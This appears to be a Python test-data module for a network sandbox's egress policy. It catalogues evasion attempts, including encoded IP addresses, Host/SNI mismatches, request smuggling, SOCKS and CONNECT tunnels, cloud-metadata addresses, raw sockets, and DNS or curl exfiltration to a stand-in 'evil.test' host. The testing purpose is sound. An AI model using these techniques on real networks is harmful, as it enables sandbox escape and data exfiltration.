"""What is tried on the network, as data: each case is an act with a word in it by which the other end knows it.

LISTED   a policy that names two ports of one host refuses it, and a policy that allows everything does not; one that
         allows nothing, or networks only, refuses more of them
CLOSED   no policy opens it: the address is private, a cloud's or the host's; the operator's setting opens it
NEVER    nothing opens it, for it is neither TCP nor DNS; outside a sandbox the same act succeeds
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tests.upstream import DNS, HTTP_PORT, OTHER, TLS_PORT, WEB

Act = dict[str, Any]
Case = Callable[[str], Act]

PORT = 8081  # where the far end speaks just enough HTTP
SECOND_PORT = 8082
PRIVATE = {
    "10.66.77.88": "10.66.77.89",
    "172.16.66.77": "172.16.66.78",
    "192.168.66.77": "192.168.66.78",
    "100.64.66.77": "100.64.66.78",
    "169.254.66.77": "169.254.66.78",
}
"""Addresses that nobody may reach, each with its neighbour that the operator has opened."""
PRIVATE_V6 = "fd00:a701::1"
METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192")
UNUSABLE = ("224.0.0.251", "255.255.255.255", "240.0.0.1", "198.18.0.1")
GATEWAY_PORTS = (21, 22, 25, 80, 111, 443, 2375, 3306, 5432, 6379, 7070, 8000, 8443, 9090, 10250)
OWN = f"good.test:{PORT}"
TWIN = f"twin.test:{PORT}"


def request(word: str, host: str = OWN, more: str = "") -> str:
    return f"GET /{word} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"


def asks(address: str, port: int = PORT, host: str = "", **options: Any) -> Case:
    return lambda word: {
        "do": "tcp",
        "address": address,
        "port": port,
        "say": request(word, host or f"{address}:{port}"),
        **options,
    }


def says(*parts: str) -> Case:
    """These bytes to the allowed host; a star is the word."""
    text = "".join(parts)
    return lambda word: {"do": "tcp", "address": "good.test", "port": PORT, "say": text.replace("*", word)}


def tls(sni: str | None, host: str) -> Case:
    return lambda word: {
        "do": "tcp",
        "address": WEB,
        "port": TLS_PORT,
        "tls": True,
        "sni": sni,
        "say": request(word, f"{host}:{TLS_PORT}"),
    }


def lookup(name: str, kind: int, server: str = DNS, over_tcp: bool = False) -> Case:
    return lambda word: {
        "do": "dns",
        "server": server,
        "name": name.replace("*", word),
        "kind": kind,
        "over_tcp": over_tcp,
    }


def led(place: str) -> Case:
    """A request to a host that sends whoever asks on to another place."""
    return lambda word: {
        "do": "run",
        "line": f"curl -sSfL --max-time 5 http://good.test:{HTTP_PORT}/lead/{place}:{PORT}/{word}",
    }


def datagram(address: str, port: int, **options: Any) -> Case:
    return lambda word: {"do": "udp", "address": address, "port": port, "say": word, **options}


_HEAD = f"Host: {OWN}\r\n"
_SECOND = f"GET /* HTTP/1.1\r\nHost: {TWIN}\r\n\r\n"

LISTED: dict[str, Case] = {
    # an address where a name is listed, in every form that programs take for one
    "the address itself": asks(WEB),
    "an address as one number": asks("3405803797"),
    "an address in hexadecimal": asks("0xcb007115"),
    "an address in octal": asks("0313.0.0161.025"),
    "an address with parts left out": asks("203.0.28949"),
    "an address mapped into IPv6": asks(f"::ffff:{WEB}", host=f"{WEB}:{PORT}", family=6),
    "an address under an allowed name": asks(WEB, host=TWIN),
    "an allowed name at another address": asks(OTHER, host=OWN),
    "a port that is not listed": asks("good.test", SECOND_PORT),
    "a name that is not listed": asks("twin.test"),
    "a route of the sender's own choice": asks(WEB, options="830704cb00711500"),
    # names that do not agree
    "TLS and request for another name": tls("twin.test", "twin.test"),
    "TLS for another name": tls("twin.test", "good.test"),
    "a request for another name inside TLS": tls("good.test", "twin.test"),
    "TLS without a name": tls(None, "good.test"),
    "a request for another name": asks("good.test", host=TWIN),
    "a second request for another name": says(f"GET /first HTTP/1.1\r\n{_HEAD}\r\n", _SECOND),
    # requests with two meanings
    "another name in the first line": says(f"GET http://{TWIN}/* HTTP/1.1\r\n{_HEAD}\r\n"),
    "two hosts": says(f"GET /* HTTP/1.1\r\n{_HEAD}Host: {TWIN}\r\n\r\n"),
    "a folded host": says(f"GET /* HTTP/1.1\r\nHost: good.test:{PORT}\r\n {TWIN}\r\n\r\n"),
    "a host behind a user": says(f"GET /* HTTP/1.1\r\nHost: good.test:{PORT}@{TWIN}\r\n\r\n"),
    "a space before the colon": says(f"GET /* HTTP/1.1\r\n{_HEAD}Host : {TWIN}\r\n\r\n"),
    "a line end inside a value": says(f"GET / HTTP/1.1\r\n{_HEAD}X-A: a\rX-Host: *\r\n\r\n"),
    "a zero byte in the host": says(f"GET /* HTTP/1.1\r\nHost: good.test\0{TWIN}\r\n\r\n"),
    "an empty line before a request": says(f"\r\nGET /* HTTP/1.1\r\nHost: {TWIN}\r\n\r\n"),
    "tabs for spaces": says(f"GET\t/*\tHTTP/1.1\r\nHost: {TWIN}\r\n\r\n"),
    "HTTP/2 without TLS": says("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n*"),
    "an upgrade to HTTP/2": says(
        f"GET /first HTTP/1.1\r\n{_HEAD}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n",
        "HTTP2-Settings: *\r\n\r\n",
    ),
    "TLS behind an empty record": says("\x16\x03\x01\0\0*"),
    "TLS behind an alert": says("\x15\x03\x01\0\x02\x01\0*"),
    "TLS that begins as of old": says("\x80\x2e\x01\x03\x01*"),
    "no host at all": says("GET /* HTTP/1.1\r\n\r\n"),
    "a request of 1991": says("GET /*\r\n"),
    "two lengths": says(f"POST /* HTTP/1.1\r\n{_HEAD}Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd"),
    "a length and chunks": says(
        f"POST /first HTTP/1.1\r\n{_HEAD}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{_SECOND}"
    ),
    "chunks of an unknown kind": says(f"POST /* HTTP/1.1\r\n{_HEAD}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
    "words behind the size of a chunk": says(
        f"POST /first HTTP/1.1\r\n{_HEAD}Transfer-Encoding: chunked\r\n\r\n0;x=*\r\n\r\n"
    ),
    # relays
    "a tunnel by the allowed host": says(f"CONNECT *.test:22 HTTP/1.1\r\n{_HEAD}\r\n"),
    "a WebSocket to another name": says(
        f"GET /* HTTP/1.1\r\nHost: {TWIN}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
    ),
    "SOCKS 5": lambda word: {"do": "tcp", "address": WEB, "port": 1080, "say": "\5\1\0" + word},
    "SOCKS 4": lambda word: {"do": "tcp", "address": WEB, "port": 1080, "say": f"\4\1\0\x50\xcb\0\x71\x16{word}\0"},
    "SOCKS 4a": lambda word: {
        "do": "tcp",
        "address": WEB,
        "port": 1080,
        "say": f"\4\1\0\x50\0\0\0\1me\0{word}.test\0",
    },
    "a name in TLS that carries words out": lambda word: {
        "do": "run",
        "line": (
            f"curl -sSk --max-time 5 --resolve {word}.evil.test:{TLS_PORT}:{WEB}"
            f" https://{word}.evil.test:{TLS_PORT}/{word}"
        ),
    },
    "a redirect": lambda word: {
        "do": "run",
        "line": f"curl -sSfL --max-time 5 http://good.test:{HTTP_PORT}/redirect/{word}",
    },
    # other ways to ask for names, and what questions carry out
    "a question to another server": lookup("*.evil.test", 1),
    "a text record": lookup("*.evil.test", 16),
    "a null record": lookup("*.evil.test", 10),
    "any record": lookup("*.evil.test", 255),
    "a long question": lookup("*." + ".".join(["x" * 60] * 3) + ".test", 1, "10.0.0.1"),
    "a question over TCP": lookup("*.evil.test", 1, WEB, over_tcp=True),
    "a question over TLS": lambda word: {"do": "tcp", "address": WEB, "port": 853, "tls": True, "sni": f"{word}.test"},
    "a question over HTTPS": tls("twin.test", "twin.test"),
}

CLOSED: dict[str, tuple[Case, Case]] = {
    **{f"private: {closed}": (asks(closed), asks(opened)) for closed, opened in PRIVATE.items()},
    "a name that leads inside": (asks("inside.test"), asks("opened.test")),
    "an alias of one": (asks("alias.test"), asks("opened-alias.test")),
    "a name of the host": (asks("host.test"), asks("good.test")),
    **{f"a redirect to {closed}": (led(closed), led(opened)) for closed, opened in [*PRIVATE.items()][:1]},
}
"""Each with the same act where the operator has opened the address; good.test is an address of this host, too."""

CLOUD: dict[str, Case] = {
    **{f"a cloud's own: {address}": asks(address, 80) for address in METADATA},
    **{f"no computer's: {address}": asks(address) for address in UNUSABLE},
    "the gateway": asks("10.0.0.1"),
    "the gateway's proxy": asks("10.0.0.1", 15001),
    **{f"the gateway's port {port}": asks("10.0.0.1", port) for port in GATEWAY_PORTS},
    "the gateway as a proxy": lambda word: {
        "do": "tcp",
        "address": "10.0.0.1",
        "port": 3128,
        "say": f"CONNECT {WEB}:{PORT} HTTP/1.1\r\nHost: {WEB}:{PORT}\r\nX: {word}\r\n\r\n",
    },
    "a name of the loopback": asks("loop.test"),
    "a name of a cloud's own": asks("metadata.google.internal", 80),
}
"""Refused like those above, but nobody listens there who could hear an act that gets through; events say why."""

NEVER: dict[str, Case] = {
    "QUIC": datagram(WEB, 443),
    "DNS over QUIC": datagram(WEB, 853),
    "multicast DNS": datagram(WEB, 5353),
    "NetBIOS": datagram(WEB, 137),
    "a datagram": datagram(WEB, 9999),
    "a datagram in fragments": datagram(WEB, 9999, size=20_000),
    "a datagram over IPv6": datagram(PRIVATE_V6, 9999, family=6),
    "IPv6": asks(PRIVATE_V6, family=6),
    "an echo": lambda _: {"do": "icmp", "address": WEB},
    **{
        f"a raw socket of protocol {protocol}": lambda _, protocol=protocol: {  # type: ignore[misc]
            "do": "opened",
            "family": 2,
            "kind": 3,
            "protocol": protocol,
        }
        for protocol in (1, 4, 47, 132, 255)
    },
    "packets of one's own": lambda _: {"do": "opened", "family": 17, "kind": 3, "protocol": 0x0300},
}

NEVER_INSIDE: dict[str, Case] = {
    "multicast": datagram("224.0.0.251", 5353),
    "multicast for local names": datagram("224.0.0.252", 5355),
    "broadcast": datagram("255.255.255.255", 9999),
    "broadcast on the wire": datagram("10.0.0.3", 9999),
    "IPv6 by way of IPv4": asks("64:ff9b::cb00:7115", family=6),
    "IPv6 in a tunnel": asks("2002:cb00:7115::1", family=6),
    "a neighbour over IPv6": asks("fe80::1", family=6),
    "a cloud's own over IPv6": asks("fd00:ec2::254", 80, family=6),
    "another address": lambda _: {"do": "address_added", "address": "10.0.0.9"},
    "a sender who is another": asks(WEB, source="10.0.0.3"),
    "the other kind of stream": lambda _: {"do": "opened", "family": 2, "kind": 1, "protocol": 132},
}
"""Without a control of its own: outside, the address is nobody's, or the act would change the host."""
